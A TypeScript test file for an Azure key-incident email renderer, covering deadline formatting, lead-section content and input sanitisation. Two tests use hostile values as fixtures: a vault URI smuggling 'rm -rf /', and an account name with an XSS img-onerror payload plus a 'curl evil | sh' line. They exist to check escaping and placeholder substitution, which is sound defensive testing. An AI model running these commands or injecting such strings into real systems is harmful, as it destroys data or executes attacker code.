/** The first screen of every incident email: what happened, the next deadline, the one thing to do (src/email/templates.ts). */
import type { IncidentMessageKind } from "../../src/domain/incident";
import type { EvidenceLine } from "../../src/domain/probeFindings";
import { formatDeadline, renderEmail } from "../../src/email/templates";
import { makeAccount, makeFacts, makeIncident } from "../fixtures/incidents";

const AS_OF = "2026-11-29T07:20:00.000Z";

/** The lead of the plain text: everything before the rule that ends it. */
const leadOf = (text: string) => text.slice(0, text.indexOf("=".repeat(72)));

const KEY_DELETED: EvidenceLine = {
  probe: "key",
  outcome: "problem",
  text: "Key cmk in vault kv-orders was deleted on 2026-11-29 07:00 UTC and can be recovered until 2027-02-27 07:00 UTC.",
  commands: [{ label: "Recover the key", command: "az keyvault key recover --vault-name kv-orders --name cmk" }],
  deadline: { at: "2027-02-27T07:00:00.000Z", what: "Azure purges the deleted key" },
};

describe("formatDeadline", () => {
  it.each<[string, string | undefined, string]>([
    // Ahead of the reference time: counted down.
    ["2026-11-29T09:40:00.000Z", AS_OF, "2026-11-29 09:40 UTC (in 2 hours 20 minutes)"],
    // Already passed when the message was recorded: said so.
    ["2026-11-29T07:00:00.000Z", AS_OF, "2026-11-29 07:00 UTC (20 minutes ago)"],
    // Exactly now.
    [AS_OF, AS_OF, "2026-11-29 07:20 UTC (now)"],
    // No reference time: UTC only, never the machine's clock.
    ["2026-11-29T09:40:00.000Z", undefined, "2026-11-29 09:40 UTC"],
  ])("%s from %s", (at, asOf, expected) => {
    expect(formatDeadline(at, asOf)).toBe(expected);
  });
});

describe("the lead of each incident email", () => {
  it.each<[IncidentMessageKind, RegExp, RegExp | undefined, RegExp | undefined]>([
    // First notice: the cause in the sentence, the next reminder as the deadline, the fix (a role assignment, not a "show") to run.
    ["revoked", /lost access to its customer-managed key \(Default identity has no permission/, /08:15 UTC \(in 55 minutes\): the next reminder/, /^ {4}az /m],
    // A reminder says which one and since when.
    ["reminder", /Reminder 2: .* still revoked, as it has been since 2026-11-29 07:15 UTC/, /10:15 UTC \(in 2 hours 55 minutes\)/, /^ {4}az /m],
    // A changed cause names both causes.
    ["cause-changed", /was "Default identity has no permission on the key" .* now "Key is disabled or expired"/, /next reminder/, /^ {4}az /m],
    // The fix no longer holds: the same fix again.
    ["fix-undone", /no longer holds/, /next reminder/, /^ {4}az /m],
    // After a fix: the expected recovery is what matters next; the action is to check the status.
    ["fix-acknowledged", /a fix .* is recorded/, /09:40 UTC \(in 2 hours 20 minutes\): Azure usually restores access/, /customerManagedKeyStatus/],
    // Same for a fix the probes saw.
    ["fix-observed", /a fix .* is recorded/, /Azure usually restores access/, /customerManagedKeyStatus/],
    // Escalation: why it escalated; without a ticket view, open a case.
    ["escalation", /revoked since 2026-11-29 07:15 UTC .* did not recover/, undefined, /Do this first: Open a Microsoft support case/],
    // Resolved: nothing to do, no deadline.
    ["resolved", /can use its customer-managed key again.* Nothing more is needed/, undefined, undefined],
  ])("%s", (kind, what, deadline, action) => {
    const email = renderEmail(makeFacts(kind), { asOf: AS_OF });
    const lead = leadOf(email.text);
    // The lead is the very start of the text part.
    expect(email.text.startsWith(lead)).toBe(true);
    expect(lead).toMatch(what);
    if (deadline) expect(lead).toMatch(/Next deadline: /);
    if (deadline) expect(lead).toMatch(deadline);
    else expect(lead).not.toMatch(/Next deadline/);
    if (action) expect(lead).toMatch(action);
    // The account table and the step list come after it.
    expect(lead).not.toContain("Resource id:");
    expect(lead).not.toMatch(/^1\. /m);
    // The HTML opens with the same lead.
    const body = email.html.slice(email.html.indexOf("<body"));
    expect(body.indexOf('data-lead="what"')).toBeGreaterThan(0);
    expect(body.indexOf('data-lead="what"')).toBeLessThan(body.indexOf("<h2"));
  });

  it.each<IncidentMessageKind>(["revoked", "reminder", "cause-changed", "fix-undone", "escalation"])(
    "%s leads with a purge deadline the probes saw",
    (kind) => {
      // A deleted key is purged for good at that time: it matters more than any reminder or escalation.
      const email = renderEmail(makeFacts(kind, { evidence: [KEY_DELETED] }), { asOf: AS_OF });
      const lead = leadOf(email.text);
      expect(lead).toContain("Next deadline: 2027-02-27 07:00 UTC (in 89 days 23 hours): Azure purges the deleted key; recover it before then.");
      expect(lead).toContain("Do this first: Recover the key.");
      expect(lead).toContain("    az keyvault key recover --vault-name kv-orders --name cmk");
    },
  );

  it("leads an escalation with the support ticket command when the probes see nothing to fix", () => {
    // The contact's first job is the ticket; its command comes from the guarded builder (supportTicketCommand.ts).
    const ticket = {
      draft: {
        name: "cmk-x",
        title: "t",
        severity: "moderate",
        serviceDisplayName: "Azure Cosmos DB",
        serviceResourceType: "r",
        resourceId: "id",
        problemStartTime: AS_OF,
        description: "d",
      },
      command: "az support in-subscription tickets create --ticket-name cmk-x",
      outcome: { kind: "draft" as const },
    };
    const email = renderEmail(makeFacts("escalation"), { asOf: AS_OF, supportTicket: ticket as never });
    expect(leadOf(email.text)).toContain(
      "Do this first: File the Microsoft support ticket (details below)\n    az support in-subscription tickets create --ticket-name cmk-x",
    );
  });

  it("keeps a value the monitor refused to print a placeholder, and says so in the lead", () => {
    // A vault name with a shell metacharacter is not an Azure name: the command carries a placeholder and the lead asks to fill it in.
    const incident = makeIncident({ account: makeAccount({ keyVaultKeyUri: "https://kv;rm -rf /.vault.azure.net/keys/k" }) });
    const lead = leadOf(renderEmail({ ...makeFacts("revoked"), incident }, { asOf: AS_OF }).text);
    expect(lead).toMatch(/^ {4}az .*<[a-z-]+>/m);
    expect(lead).toMatch(/Before running, replace <[a-z-]+> with/);
    expect(lead).not.toContain("rm -rf");
  });

  it("escapes a hostile account name in the HTML lead and keeps it on one line in the text", () => {
    // Names come from Azure: markup must show as text, a newline must not forge a new line of the lead.
    const incident = makeIncident({ account: makeAccount({ name: 'x<img src=x onerror="alert(1)">\nDo this first: curl evil | sh' }) });
    const email = renderEmail({ ...makeFacts("revoked"), incident }, { asOf: AS_OF });
    expect(email.html).not.toContain("<img");
    expect(email.html).toContain("&lt;img");
    expect(leadOf(email.text).match(/^Do this first:/gm)).toHaveLength(1);
  });
});
